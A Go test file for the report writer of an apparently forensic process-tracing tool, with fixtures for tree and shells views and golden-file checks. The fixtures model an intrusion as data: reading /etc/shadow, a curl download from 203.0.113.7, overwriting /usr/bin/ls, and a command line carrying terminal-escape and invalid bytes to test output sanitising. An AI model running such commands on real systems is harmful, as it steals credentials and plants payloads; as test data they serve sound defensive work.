package report

import (
	"bytes"
	"encoding/json"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// treeReport is a "tree" view: sshd starts a shell that reads a file,
// connects out and runs a child with a hostile command line; sshd is known
// only as bash's creator (no event of its own).
func treeReport() *Report {
	t0 := time.Date(2026, 11, 20, 9, 14, 0, 0, time.UTC)
	at := func(ms int) time.Time { return t0.Add(time.Duration(ms) * time.Millisecond) }
	web := Container{ID: "3ad7b2c1e9f0", Name: "web-frontend", Image: "nginx:1.27"}
	const host, capture = "web-01", "hosts/web-01.scap.zst"
	return &Report{
		View: "tree",
		Tree: []ProcessNode{{
			Process: Process{Pid: 811, Name: "sshd", Cmdline: "sshd: /usr/sbin/sshd -D [listener]", User: "root"},
			Host:    host, Capture: capture, Frame: -1, ExitFrame: -1,
			Children: []ProcessNode{{
				Process: Process{Pid: 8101, Name: "bash", Exe: "/usr/bin/bash", Cmdline: "bash", User: "root", Tty: 34817, Start: at(0)},
				Host:    host, Capture: capture, EventNum: 812, Frame: 1,
				Activity: []Activity{{at(0), "exec", "bash", 812, 1, ""}, {at(1200), "open-read", "/etc/shadow", 815, 1, ""},
					{at(2500), "connect", "tcp 10.0.0.5:40112->203.0.113.7:80", 2048, 2, ""}},
				Exit: at(9000), ExitNum: 4100, ExitFrame: 3,
				Children: []ProcessNode{{
					Process: Process{Pid: 8120, Name: "sh", Cmdline: "sh -c 'echo \x1b[2J\nowned' > /usr/bin/\xffx", User: "root", Start: at(3000)},
					Host:    host, Capture: capture, EventNum: 2100, Frame: 2, ExitFrame: -1,
					Container: web,
					Activity: []Activity{{at(3000), "exec", "sh -c 'echo \x1b[2J\nowned'", 2100, 2, ""}, {at(3001), "open-write", "/usr/bin/\xffx", 2103, 2, ""},
						{at(3002), "rename", "/usr/bin/\xffx -> /usr/bin/ls", 2110, 2, ""}},
				}},
			}},
		}},
	}
}

// treeHostsReport is [treeReport] and the tree of a second host's
// capture, not framed (frame -1), as one run over both captures gives
// them: a reader must tell the hosts apart.
func treeHostsReport() *Report {
	r := treeReport()
	t0 := time.Date(2026, 11, 20, 9, 14, 5, 0, time.UTC)
	r.Tree = append(r.Tree, ProcessNode{
		Process: Process{Pid: 1, Name: "systemd", Cmdline: "/sbin/init", User: "root"},
		Host:    "db-01", Capture: "db-01.scap", Frame: -1, ExitFrame: -1,
		Children: []ProcessNode{{
			Process: Process{Pid: 950, Name: "cron", Cmdline: "/usr/sbin/cron -f", User: "root", Start: t0},
			Host:    "db-01", Capture: "db-01.scap", EventNum: 77, Frame: -1,
			Activity: []Activity{{t0, "exec", "/usr/sbin/cron -f", 77, -1, ""}, {t0.Add(time.Second), "open-write", "/etc/cron.d/x", 80, -1, ""}},
			Exit:     t0.Add(2 * time.Second), ExitNum: 91, ExitFrame: -1,
		}},
	})
	return r
}

// treeSetReport is the tree of a rotated set, one capture of two files:
// bash execs in the first file and connects and exits in the second, where
// its child sh and a second root, cron, run. Every line must name the file
// its frame counts in, and the text one header for the set.
func treeSetReport() *Report {
	t0 := time.Date(2026, 11, 20, 9, 14, 0, 0, time.UTC)
	at := func(ms int) time.Time { return t0.Add(time.Duration(ms) * time.Millisecond) }
	const host, f1, f2 = "web-01", "rec/web-000001.scap.zst", "rec/web-000002.scap.zst"
	return &Report{
		View:     "tree",
		Captures: []CaptureInfo{{File: f1, Files: []string{f1, f2}, Hostname: host}},
		Tree: []ProcessNode{{
			Process: Process{Pid: 811, Name: "sshd", Cmdline: "sshd: /usr/sbin/sshd -D [listener]", User: "root"},
			Host:    host, Capture: f1, Frame: -1, ExitFrame: -1,
			Children: []ProcessNode{{
				Process: Process{Pid: 8101, Name: "bash", Exe: "/usr/bin/bash", Cmdline: "bash", User: "root", Start: at(0)},
				Host:    host, Capture: f1, EventNum: 812, Frame: 1,
				Activity: []Activity{{Time: at(0), Kind: "exec", Object: "bash", EventNum: 812, Frame: 1},
					{Time: at(1200), Kind: "open-read", Object: "/etc/shadow", EventNum: 815, Frame: 1},
					{Time: at(62500), Kind: "connect", Object: "tcp 10.0.0.5:40112->203.0.113.7:80", EventNum: 20480, Frame: 0, Capture: f2}},
				Exit: at(69000), ExitNum: 41000, ExitFrame: 3, ExitCapture: f2,
				Children: []ProcessNode{{
					Process: Process{Pid: 8120, Name: "sh", Cmdline: "sh -c id", User: "root", Start: at(63000)},
					Host:    host, Capture: f2, EventNum: 21000, Frame: 0, ExitFrame: -1,
					Activity: []Activity{{Time: at(63000), Kind: "exec", Object: "sh -c id", EventNum: 21000, Frame: 0}},
				}},
			}},
		}, {
			Process: Process{Pid: 950, Name: "cron", Cmdline: "/usr/sbin/cron -f", User: "root", Start: at(64000)},
			Host:    host, Capture: f2, EventNum: 30000, Frame: 2, ExitFrame: -1,
			Activity: []Activity{{Time: at(64000), Kind: "exec", Object: "/usr/sbin/cron -f", EventNum: 30000, Frame: 2}},
		}},
	}
}

// shellsReport is a "shells" view: one finding per shell, with the
// commands it ran.
func shellsReport() *Report {
	r := sampleReport()
	d := r.Detections[0]
	d.Rule, d.Priority, d.Output = "shell", "Informational", "bash[4100] (tty 34816, user root) in web-frontend ran 2 commands"
	d.Children = []Process{
		{Pid: 4133, Name: "cat", Cmdline: "cat /etc/shadow", Start: d.Time.Add(time.Second)},
		{Pid: 4140, Name: "curl", Cmdline: "curl -o /tmp/x http://203.0.113.7/x", Start: d.Time.Add(2 * time.Second)},
	}
	return &Report{View: "shells", Detections: []Detection{d}}
}

func TestTreeGolden(t *testing.T) {
	tests := []struct {
		name   string
		report *Report
		format Format
		opts   Options
	}{
		{"tree_text.golden", treeReport(), FormatText, Options{}},
		{"tree_json.golden", treeReport(), FormatJSON, Options{}},
		{"tree_table.golden", treeReport(), FormatTable, Options{Width: 100}},
		{"tree_hosts_text.golden", treeHostsReport(), FormatText, Options{}},
		{"tree_hosts_json.golden", treeHostsReport(), FormatJSON, Options{}},
		{"tree_hosts_table.golden", treeHostsReport(), FormatTable, Options{Width: 120}},
		{"tree_set_text.golden", treeSetReport(), FormatText, Options{}},
		{"tree_set_json.golden", treeSetReport(), FormatJSON, Options{}},
		{"tree_set_table.golden", treeSetReport(), FormatTable, Options{Width: 120}},
		{"shells_json.golden", shellsReport(), FormatJSON, Options{}},
		{"shells_table.golden", shellsReport(), FormatTable, Options{}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var b bytes.Buffer
			if err := Write(&b, tc.report, tc.format, tc.opts); err != nil {
				t.Fatal(err)
			}
			checkGolden(t, tc.name, b.Bytes())
			if bytes.IndexByte(b.Bytes(), 0x1b) >= 0 || bytes.IndexByte(b.Bytes(), 0xff) >= 0 {
				t.Error("output holds a raw escape or invalid byte")
			}
		})
	}
}

func TestTreeJSONLines(t *testing.T) {
	var b bytes.Buffer
	if err := WriteJSON(&b, treeReport(), Options{}); err != nil {
		t.Fatal(err)
	}
	type line struct {
		Path  string `json:"path"`
		Depth int    `json:"depth"`
		Pid   int64  `json:"pid"`
		PPid  int64  `json:"ppid"`
		Exit  *string
		View  string `json:"view"`
	}
	var got []line
	for _, l := range bytes.Split(bytes.TrimSpace(b.Bytes()), []byte("\n")) {
		var v line
		if err := json.Unmarshal(l, &v); err != nil {
			t.Fatalf("%v: %s", err, l)
		}
		got = append(got, v)
	}
	exit := "2026-11-20T09:14:09.000000000Z"
	want := []line{
		{Path: "sshd", Depth: 0, Pid: 811, View: "tree"},
		{Path: "sshd > bash", Depth: 1, Pid: 8101, PPid: 811, Exit: &exit, View: "tree"},
		{Path: "sshd > bash > sh", Depth: 2, Pid: 8120, PPid: 8101, View: "tree"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("tree lines (-want +got):\n%s", diff)
	}
}
